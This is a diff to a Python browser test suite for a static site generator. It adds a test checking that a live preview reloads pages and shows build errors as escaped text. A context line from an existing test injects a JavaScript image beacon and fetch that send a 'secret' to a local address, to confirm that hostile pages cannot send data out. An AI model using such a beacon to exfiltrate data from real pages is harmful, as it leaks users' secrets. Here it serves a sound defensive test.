@@ -14,6 +14,9 @@ from browser import EXECUTABLE, Browser, browser
 from pypdf import PdfReader
 from small_site import NAMES, build_site, people
 
+from generator.problems import UsageError
+from generator.rendering.serve import Preview
+
 pytestmark = [
     pytest.mark.slow,
     pytest.mark.browser,
@@ -259,3 +262,39 @@ def test_a_hostile_page_sends_nothing_out(tmp_path: Path, chromium: Browser, ser
         "new Image().src = 'http://127.0.0.2:9/?secret'; fetch('http://127.0.0.2:9/').catch(() => 0)"
     )
     assert len(chromium.complaints()) >= before + 2
+
+
+def test_the_preview_reloads_a_page_and_shows_what_is_wrong(tmp_path: Path, chromium: Browser) -> None:
+    job = build_site(tmp_path)
+    source = tmp_path / "source.txt"
+    source.write_text("第一版", "utf-8")
+    page = job.out / "rules" / "index.html"
+    original = page.read_text("utf-8")
+    said: list[str] = []
+
+    def rebuild(_: set[Path]) -> None:
+        words = source.read_text("utf-8")
+        if "坏" in words:
+            raise UsageError("第3行<b>有误</b>")
+        page.write_text(original.replace("</h1>", f" {words}</h1>"), "utf-8")
+
+    with Preview(rebuild, job.out, [source], 0) as preview:
+        thread = threading.Thread(target=preview.run, args=(said.append,))
+        thread.start()
+        try:
+            chromium.size(1280, 900)
+            chromium.open(preview.url + "rules/")
+            title = "(document.querySelector('h1')?.textContent ?? '')"
+            chromium.until(f"{title}.includes('第一版')")
+            source.write_text("第二版", "utf-8")
+            chromium.until(f"{title}.includes('第二版')")
+            source.write_text("坏", "utf-8")
+            chromium.until("document.body?.innerText.includes('第3行<b>有误</b>')")
+            assert "第二版" in chromium.evaluate(title)
+            source.write_text("第三版", "utf-8")
+            chromium.until(f"{title}.includes('第三版')")
+            assert "有误" not in chromium.evaluate("document.body.innerText")
+            assert chromium.complaints() == []
+        finally:
+            preview.close()
+            thread.join(20)
